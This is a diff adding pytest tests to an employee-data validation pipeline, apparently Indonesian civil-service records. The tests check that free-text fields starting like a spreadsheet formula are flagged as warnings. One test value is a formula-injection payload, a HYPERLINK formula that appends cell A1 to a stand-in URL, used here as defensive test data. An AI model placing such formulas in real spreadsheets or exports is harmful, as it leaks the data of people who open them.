@@ -134,3 +134,27 @@ def test_a_reference_to_an_unknown_employee_is_reported_once() -> None:
     assert karantina[["berkas", "kolom", "kode_aturan"]].values.tolist() == [
         ["perilaku.csv", "nip", "PEGAWAI_TIDAK_ADA"]
     ]
+
+
+@pytest.mark.parametrize("awal", ["=", "+", "-", "@", "\t", "\r"])
+def test_free_text_starting_like_a_formula_is_a_warning(awal: str) -> None:
+    data = with_value("pegawai", 1, "nama", f'{awal}HYPERLINK("http://x.test/?"&A1,"klik")')
+    data["pegawai"].loc[2, "jabatan"] = "Analis - Kepegawaian"  # a '-' inside is no formula
+    clean, karantina, peringatan = run(data)
+    assert karantina.empty and len(clean["pegawai"]) == len(data["pegawai"])  # the row goes on
+    assert peringatan[["berkas", "baris", "kolom", "kode_aturan"]].values.tolist() == [
+        ["pegawai.csv", 3, "nama", "TEKS_RUMUS"]
+    ]
+    shown = {"\t": "\\t", "\r": "\\r"}.get(awal, awal)
+    assert f"nama diawali '{shown}'" in peringatan.loc[0, "alasan"]
+    assert "leading '" in peringatan.loc[0, "reason"]
+
+
+def test_formula_warning_only_for_free_text_of_clean_rows() -> None:
+    data = dataset()
+    data["pegawai"].loc[1, "jenis_jabatan"] = "=pelaksana"  # an enumeration: quarantined, no warning
+    data["pegawai"].loc[1, "nama"] = "=nama"  # in a quarantined row: no warning
+    data["skp"].loc[0, "target"] = "-5"  # a number column: its own rule
+    _, karantina, peringatan = run(data)
+    assert {"JENIS_JABATAN", "TARGET"} <= set(karantina["kode_aturan"])
+    assert "TEKS_RUMUS" not in set(peringatan["kode_aturan"])
